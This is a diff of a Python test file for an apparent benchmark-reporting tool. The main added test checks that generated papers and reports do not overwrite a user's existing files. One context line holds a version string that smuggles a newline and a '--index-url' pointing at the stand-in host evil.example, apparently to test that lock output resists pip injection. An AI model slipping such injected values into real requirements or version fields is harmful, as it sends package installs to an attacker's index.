@@ -212,6 +212,30 @@ def test_what_a_paper_says_of_its_rows(paper: Path) -> None:
         assert f"`tables/{file.name}`" in readme
 
 
+def test_what_is_the_users_stays(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("BROWSER_PATH", "none")
+    rows = synthetic.write(tmp_path / "sweep", synthetic.sweep((128, 256, 512), (1,)))
+    mine = {name: tmp_path / "out" / name for name in ("README.md", "figures/own.pdf", "tables/own.tex", "rows/own")}
+    for file in mine.values():
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text("mine")
+    for verb in ("paper", "report"):
+        assert cli.main([verb, str(rows), "--out", str(tmp_path / "out")]) == 2
+        assert re.search("holds README.md, figures, rows and 1 more, and no list .*\n.*--out", capsys.readouterr().err)
+    shutil.move(tmp_path / "out", tmp_path / "before")
+    for _ in range(2):
+        assert cli.main(["paper", str(rows), "--out", str(tmp_path / "out")]) == 0
+        shutil.copytree(tmp_path / "before", tmp_path / "out", dirs_exist_ok=True)
+    assert all(file.read_text() == "mine" for file in mine.values())
+    assert (tmp_path / "out" / "README.md.kept").read_text() == "mine"
+    assert cli.main(["report", str(rows), "--images", "none"]) == 0
+    (rows / "report.html").write_text("mine")
+    assert cli.main(["report", str(rows / "rows.csv"), "--images", "none"]) == 0  # beside the rows that it reads
+    assert (rows / "report.html.kept").read_text() == "mine"
+
+
 def test_a_version_that_is_none_is_no_line_that_pip_reads() -> None:
     rows = synthetic.sweep((128,), (1,), repeats=1, torch_version="2.4.0\n--index-url=http://evil.example", seed=1)
     text = lock.text(from_frame(pd.DataFrame(rows), "x").frame)
